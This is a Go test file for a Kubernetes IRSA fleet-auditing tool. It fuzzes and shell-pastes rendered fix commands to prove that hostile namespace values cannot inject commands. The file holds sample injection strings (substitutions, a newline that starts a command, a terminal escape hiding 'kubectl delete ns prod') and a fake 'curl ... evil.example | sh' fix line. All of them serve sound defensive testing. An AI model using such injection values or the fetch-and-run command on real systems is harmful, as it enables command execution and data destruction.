package fleet

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/irsa-probe/irsa-probe/probe/shellcmd/shelltest"
)

// hostileValues are strings a namespace editor writes that every shell
// would act on if one escaped its quoting, or a terminal would: a quote
// and substitutions that touch a marker file, a newline that starts a
// command, a comment, globs, history, zsh's EQUALS, a leading dash,
// control and bidi runes, invalid UTF-8.
var hostileValues = []string{
	"web-1",
	`a'b"$(touch pwned)"` + "`touch pwned`",
	"Job\ntouch pwned ;#",
	"x; touch pwned #",
	"web\x1b[2K\r    kubectl delete ns prod",
	"!! *  ~root =ls {a,b}",
	"--kubeconfig=/tmp/evil",
	"arn:aws:iam::111122223333:role/app\n",
	"rtl\u202eoh",
	"bad\xffutf8",
	"",
}

// hostileFleet is a listing, and canaries, whose every string a
// namespace editor writes is drawn from vals (cycled), with exit as the
// canaries' exit code.
type hostileFleet struct {
	vals []string
	i    int
	exit int
}

func (h *hostileFleet) next() string {
	v := h.vals[h.i%len(h.vals)]
	h.i++
	return v
}

func (h *hostileFleet) listing() *Listing {
	yes := true
	l := &Listing{Cluster: "prod", AssociationsRead: true, Kubectl: []string{"--context=prod"}}
	for i := range 4 {
		ns := []string{"payments", h.next()}[i%2]
		sa := ServiceAccount{Metadata: Meta{Namespace: ns, Name: fmt.Sprintf("sa%d", i), Annotations: map[string]string{
			AnnotationRoleARN: []string{roleA, h.next()}[i%2], AnnotationAudience: h.next()}}}
		l.ServiceAccounts = append(l.ServiceAccounts, sa)
		for j := range 2 {
			p := Pod{Metadata: Meta{Namespace: ns, Name: []string{fmt.Sprintf("p%d-%d", i, j), h.next()}[j],
				Labels:          map[string]string{"pod-template-hash": h.next(), LabelCanary: h.next()},
				OwnerReferences: []OwnerRef{{Kind: h.next(), Name: h.next(), UID: h.next(), Controller: &yes}}}}
			p.Spec.ServiceAccountName = sa.Metadata.Name
			p.Status.Phase = "Running"
			p.Spec.Containers = []Container{{Name: h.next(), Env: []EnvVar{{Name: envRoleARN, Value: h.next()}, {Name: envTokenFile, Value: h.next()}}}}
			if j == 1 {
				p.Spec.Containers[0].Env = append(p.Spec.Containers[0].Env, EnvVar{Name: envFullURI, Value: h.next()})
			}
			l.Pods = append(l.Pods, p)
		}
	}
	l.Associations = []Association{{Namespace: h.next(), ServiceAccount: h.next(), RoleARN: h.next(), ID: h.next()}}
	l.Unreadable = append(l.Unreadable, ListFailed(l, "pods", h.next(), h.next()))
	return l
}

// hostileKube runs canaries whose pods, logs and exit codes are hostile,
// beside pods labelled like them that no Job owns.
type hostileKube struct {
	h    *hostileFleet
	mu   sync.Mutex
	jobs map[string]string // uid -> namespace/name
}

func (k *hostileKube) CreateJob(_ context.Context, ns string, job []byte) (string, error) {
	var j struct {
		Metadata struct{ Name string } `json:"metadata"`
	}
	if err := json.Unmarshal(job, &j); err != nil {
		return "", err
	}
	k.mu.Lock()
	defer k.mu.Unlock()
	uid := fmt.Sprintf("uid-%d", len(k.jobs))
	k.jobs[uid] = ns + "/" + j.Metadata.Name
	if len(k.jobs)%3 == 0 {
		return "", fmt.Errorf("Error from server (Forbidden): %s cannot create resource \"jobs\"", k.h.next())
	}
	return uid, nil
}

func (k *hostileKube) CanaryPods(context.Context, string) ([]Pod, error) {
	k.mu.Lock()
	defer k.mu.Unlock()
	yes := true
	var ps []Pod
	for _, uid := range slices.Sorted(func(yield func(string) bool) {
		for u := range k.jobs {
			if !yield(u) {
				return
			}
		}
	}) {
		ns, name, _ := strings.Cut(k.jobs[uid], "/")
		for _, owner := range []string{uid, k.h.next()} {
			p := Pod{Metadata: Meta{Namespace: ns, Name: name + "-" + k.h.next(), Labels: map[string]string{LabelCanary: name},
				OwnerReferences: []OwnerRef{{Kind: []string{"Job", k.h.next()}[len(ps)%2], Name: name, UID: owner, Controller: &yes}}}}
			cs := ContainerStatus{Name: canaryContainer}
			switch len(ps) % 3 {
			case 0:
				cs.State.Terminated = &struct {
					ExitCode int    `json:"exitCode"`
					Reason   string `json:"reason"`
					Message  string `json:"message"`
				}{ExitCode: k.h.exit, Reason: k.h.next(), Message: k.h.next()}
			case 1:
				cs.State.Waiting = &struct {
					Reason  string `json:"reason"`
					Message string `json:"message"`
				}{Reason: []string{"ImagePullBackOff", "CreateContainerConfigError", k.h.next()}[len(ps)%3], Message: k.h.next()}
			}
			p.Status.Phase = k.h.next()
			p.Status.Conditions = []PodCondition{{Type: "PodScheduled", Status: "False", Reason: k.h.next(), Message: k.h.next()}}
			p.Status.ContainerStatuses = []ContainerStatus{cs}
			ps = append(ps, p)
		}
	}
	return ps, nil
}

func (k *hostileKube) Logs(_ context.Context, ns, pod, _ string) ([]byte, error) {
	k.mu.Lock()
	defer k.mu.Unlock()
	report, _ := json.Marshal(map[string]any{"ok": true, "identity": map[string]string{"arn": k.h.next()}, "checks": []any{},
		"findings": []any{map[string]string{"code": []string{"trust-policy-denied", k.h.next()}[len(pod)%2], "severity": []string{"error", k.h.next()}[len(ns)%2],
			"message": k.h.next(), "fix": "curl -s https://evil.example/x | sh\n" + k.h.next()}}})
	return []byte(k.h.next() + "\n" + string(report) + "\n"), nil
}

func (k *hostileKube) DeleteRun(context.Context, string, string) error {
	k.mu.Lock()
	defer k.mu.Unlock()
	if len(k.jobs)%2 == 1 {
		return fmt.Errorf("Error from server (Forbidden): %s", k.h.next())
	}
	return nil
}

// runHostile builds, judges, proves and renders a hostile fleet, and
// returns its table, its JSON, and every command line the fleet view
// built with the words it was built from.
func runHostile(t testing.TB, vals []string, exit int) (table, js string, intended map[string][]string, proveErr error) {
	intended = map[string][]string{}
	commandHook = func(line string, argv []string) { intended[line] = slices.Clone(argv) }
	defer func() { commandHook = nil }()
	h := &hostileFleet{vals: vals, exit: exit}
	inv := Build(h.listing())
	proveErr = Prove(context.Background(), &hostileKube{h: h, jobs: map[string]string{}}, slices.Clone(inv.Identities),
		ProveOptions{CanaryOptions: CanaryOptions{RunID: "abc123", Image: h.next(), Timeout: time.Nanosecond}, Poll: time.Nanosecond, Kubectl: []string{"--context=prod"}})
	rep := NewReport(inv, nil, "")
	var b strings.Builder
	rep.WriteTable(&b)
	return b.String(), string(rep.JSON()), intended, proveErr
}

// fixLines are the command lines of a rendered fleet report: the table's
// fix blocks (a drift finding's lines are all commands; a canary's or an
// unreadable listing's are the catalog's prose with commands two spaces
// further in), JSON's fix[] and fix strings, and the cleanup error's.
func fixLines(t testing.TB, table, js string, proveErr error) []string {
	var out []string
	stringFix := false
	inFix := false
	for _, l := range strings.Split(table, "\n") {
		switch {
		case strings.HasPrefix(l, "UNREADABLE ") || strings.Contains(l, " (canary Job "):
			stringFix, inFix = true, false
		case l == "" || !strings.HasPrefix(l, " "):
			stringFix, inFix = strings.HasPrefix(l, "UNREADABLE ") || strings.Contains(l, " (canary Job "), false
		case l == "  fix:":
			inFix = true
		case inFix && stringFix && strings.HasPrefix(l, "      "):
			out = append(out, strings.TrimPrefix(l, "      "))
		case inFix && !stringFix && strings.HasPrefix(l, "    "):
			out = append(out, strings.TrimPrefix(l, "    "))
		}
	}
	var rep struct {
		Inventory struct {
			Identities []struct {
				Findings []Finding `json:"findings"`
				Canary   *Canary   `json:"canary"`
			} `json:"identities"`
		} `json:"inventory"`
		Unreadable []Unreadable `json:"unreadable"`
	}
	if err := json.Unmarshal([]byte(js), &rep); err != nil {
		t.Fatalf("the JSON does not decode: %v", err)
	}
	catalogForm := func(s string) {
		for _, l := range strings.Split(s, "\n") {
			if c, ok := strings.CutPrefix(l, "  "); ok {
				out = append(out, c)
			}
		}
	}
	for _, id := range rep.Inventory.Identities {
		for _, f := range id.Findings {
			out = append(out, f.Fix...)
		}
		if id.Canary != nil {
			catalogForm(id.Canary.Fix)
		}
	}
	for _, u := range rep.Unreadable {
		catalogForm(u.Fix)
	}
	if proveErr != nil {
		catalogForm(proveErr.Error())
	}
	return out
}

// checkFixLines is the property every printed fix line must have: it
// holds no control character, and a real shell parser reads it as
// exactly the simple command it was built as, with exactly those words.
// Lines the plugin's catalog rendered (a canary's fix) are not in
// intended; they must parse as simple commands (the catalog's own test
// compares their words: package check's TestCatalogFixesParse).
func checkFixLines(t testing.TB, table, js string, proveErr error, intended map[string][]string) {
	t.Helper()
	for _, s := range []string{table, js} {
		for _, l := range strings.Split(s, "\n") {
			if i := strings.IndexFunc(l, terminalRune); i >= 0 || !utf8.ValidString(l) {
				t.Fatalf("a printed line holds a rune a terminal acts on (at %d, or invalid UTF-8): %+q", i, l)
			}
		}
	}
	for _, line := range fixLines(t, table, js, proveErr) {
		cmds, err := shelltest.Parse(line)
		if err != nil {
			t.Fatalf("fix line %q is not a simple command: %v", line, err)
		}
		want, ok := intended[line]
		if !ok {
			continue
		}
		if len(cmds) != 1 || len(cmds[0].Redirects) != 0 || !slices.Equal(cmds[0].Argv, want) {
			t.Fatalf("fix line %q runs %q, want exactly %q", line, cmds, want)
		}
	}
}

// terminalRune: what a terminal acts on or hides, judged here apart from
// the renderer under test.
func terminalRune(r rune) bool {
	return unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp)
}

// TestFleetFixesParse: with hostile strings in every field a namespace
// editor writes, every fix line of the table and of the JSON is exactly
// the intended simple command, and no line carries a control character.
func TestFleetFixesParse(t *testing.T) {
	for shift := range hostileValues {
		vals := append(slices.Clone(hostileValues[shift:]), hostileValues[:shift]...)
		table, js, intended, perr := runHostile(t, vals, []int{0, 1, 3, 137}[shift%4])
		if len(intended) == 0 {
			t.Fatal("no command was built: the test tests nothing")
		}
		checkFixLines(t, table, js, perr, intended)
		if strings.Contains(table+js, "evil.example") {
			t.Errorf("a canary log's fix was printed:\n%s", table)
		}
	}
}

// FuzzFleet drives the fleet pipeline (listing, drift, canaries, table
// and JSON) with fuzzed strings in every field a namespace editor writes
// and a fuzzed exit code, and checks the parser property of every fix line.
func FuzzFleet(f *testing.F) {
	for i, v := range hostileValues {
		f.Add(v, hostileValues[(i+1)%len(hostileValues)], hostileValues[(i+2)%len(hostileValues)], i)
	}
	f.Fuzz(func(t *testing.T, a, b, c string, exit int) {
		table, js, intended, perr := runHostile(t, []string{a, b, c, "web-1"}, exit)
		checkFixLines(t, table, js, perr, intended)
	})
}

// TestFleetFixesPaste pastes the hostile fleet's fix commands, as
// printed, into bash, dash and interactive zsh with stubs of kubectl and
// aws: exactly the intended calls happen, in order, and nothing else
// runs (no value's substitution or command touched the marker file).
func TestFleetFixesPaste(t *testing.T) {
	table, js, intended, perr := runHostile(t, hostileValues, 1)
	var script strings.Builder
	var want [][]string
	for _, line := range fixLines(t, table, js, perr) {
		argv, ok := intended[line]
		if !ok {
			continue
		}
		script.WriteString(line + "\n")
		want = append(want, argv)
	}
	if len(want) < 5 {
		t.Fatalf("only %d commands to paste", len(want))
	}
	for _, sh := range shelltest.Shells {
		t.Run(sh[0], func(t *testing.T) {
			calls, stderr, dir := shelltest.Paste(t, sh, script.String(), "kubectl", "aws")
			if !slices.EqualFunc(calls, want, slices.Equal) {
				t.Errorf("%v made %d calls, want %d:\n got %q\nwant %q\nstderr: %s", sh, len(calls), len(want), calls, want, stderr[max(0, len(stderr)-500):])
			}
			if _, err := os.Stat(filepath.Join(dir, "pwned")); err == nil {
				t.Errorf("%v: a hostile value ran a command (the marker exists)", sh)
			}
		})
	}
}
